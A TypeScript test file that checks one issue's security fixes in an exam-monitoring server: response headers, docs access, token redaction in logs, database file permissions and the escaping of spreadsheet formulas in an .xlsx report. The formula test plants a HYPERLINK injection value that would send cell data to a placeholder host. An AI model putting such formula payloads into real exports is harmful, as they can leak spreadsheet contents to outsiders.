// Issue 13, Low list (R-SEC-4, R-SEC-5, R-SEC-7): security headers on API and console answers;
// tokens in query strings never logged; the SQLite database and its WAL created 0600; names that
// look like formulas neutralised in the exam report .xlsx; a GB code taken elsewhere answered as
// an invalid code (400), not "already in use" (409).
import { statSync } from 'node:fs';
import path from 'node:path';
import { Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildServer } from '../../src/api/server.ts';
import { redactUrl } from '../../src/api/security-headers.ts';
import { SYSTEM_ACTOR } from '../../src/auth/actor.ts';
import { reportXlsx } from '../../src/exams/report-xlsx.ts';
import { ADMIN_PASSWORD } from '../helpers/app.ts';
import { closeDay, examDay } from '../exams/fixture.ts';
import type { ExamDay } from '../exams/fixture.ts';

describe('Low items of issue 13 (R-SEC-4/5/7)', () => {
  let d: ExamDay;
  beforeAll(async () => {
    d = await examDay('sqlite');
  }, 60_000);
  afterAll(() => closeDay(d));

  it('API answers carry CSP, frame-ancestors/X-Frame-Options, nosniff and Referrer-Policy', async () => {
    const server = await buildServer(d.t.app, pino({ level: 'silent' }));
    try {
      for (const url of ['/api/health', '/api/no-such-thing']) {
        const res = await server.inject({ method: 'GET', url });
        expect(res.headers['content-security-policy']).toContain("frame-ancestors 'none'");
        expect(res.headers['content-security-policy']).toContain("script-src 'self'");
        expect(res.headers['x-frame-options']).toBe('DENY');
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(res.headers['referrer-policy']).toBe('no-referrer');
      }
    } finally {
      await server.close();
    }
  });

  it('/api/docs answers only logged-in users by default; the setting opens or closes it', async () => {
    const server = await buildServer(d.t.app, pino({ level: 'silent' }));
    const cfg = d.t.app.config as { apiDocs: 'public' | 'users' | 'off' };
    try {
      expect(cfg.apiDocs).toBe('users');
      expect((await server.inject({ method: 'GET', url: '/api/docs/' })).statusCode).toBe(401);
      const login = await server.inject({ method: 'POST', url: '/api/auth/login', payload: { username: 'admin', password: ADMIN_PASSWORD } });
      const cookie = login.headers['set-cookie']!.toString().split(';')[0];
      expect((await server.inject({ method: 'GET', url: '/api/docs/', headers: { cookie } })).statusCode).toBe(200);
      cfg.apiDocs = 'off';
      expect((await server.inject({ method: 'GET', url: '/api/docs/', headers: { cookie } })).statusCode).toBe(404);
      cfg.apiDocs = 'public';
      expect((await server.inject({ method: 'GET', url: '/api/docs/' })).statusCode).toBe(200);
    } finally {
      cfg.apiDocs = 'users';
      await server.close();
    }
  });

  it('media tokens in query strings are redacted in request logs', async () => {
    expect(redactUrl('/api/live/ws?token=abc.def&x=1')).toBe('/api/live/ws?token=[redacted]&x=1');
    const lines: string[] = [];
    const sink = new Writable({ write(chunk: Buffer, _e, cb) { lines.push(chunk.toString()); cb(); } });
    const { createLogger } = await import('../../src/cli/logger.ts');
    const base = createLogger('info');
    // Same options as the real logger, written to a buffer.
    const log = pino({ level: 'info', serializers: (base as unknown as { [k: symbol]: unknown })[pino.symbols.serializersSym] as pino.LoggerOptions['serializers'] }, sink);
    const server = await buildServer(d.t.app, log);
    try {
      await server.inject({ method: 'GET', url: '/api/playback/ws?token=SECRET-TOKEN-123' });
    } finally {
      await server.close();
    }
    const text = lines.join('');
    expect(text).toContain('/api/playback/ws?token=[redacted]');
    expect(text).not.toContain('SECRET-TOKEN-123');
  });

  it('the SQLite database and its WAL are 0600', () => {
    const db = path.join(d.t.app.config.dataDir, 'xuncha.db');
    for (const f of [db, `${db}-wal`]) expect(statSync(f).mode & 0o777).toBe(0o600);
  });

  it('the exam report .xlsx neutralises names that look like formulas', async () => {
    const report = await d.m.reports.forExport(SYSTEM_ACTOR, d.examId, undefined, 'xlsx');
    const evil = '=HYPERLINK("http://x.invalid/?"&A1,"点我")';
    const lines = report.lines.map((l, i) => (i === 0 ? { ...l, cameraName: evil, roomName: '+1+2' } : l));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await reportXlsx({ ...report, lines })) as unknown as ArrayBuffer);
    const values: unknown[] = [];
    wb.getWorksheet('明细')!.eachRow((row) => row.eachCell((c) => values.push(c.value)));
    expect(values).toContain(`'${evil}`);
    expect(values).toContain("'+1+2");
    expect(values).not.toContain(evil);
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
  });

  it('a GB code already used elsewhere is answered as invalid input, not as "in use"', async () => {
    const tree = await d.t.app.org.tree(d.admin);
    const taken = tree.find((n) => n.name === '南京市第一中学考点')!.gbCode;
    const city = tree.find((n) => n.kind === 'city')!;
    await expect(d.t.app.org.createNode(d.admin, { parentId: city.id, kind: 'district', name: '新区', gbCode: taken })).rejects.toMatchObject({ code: 'invalid_input', message: expect.not.stringContaining('已被使用') });
  });
});
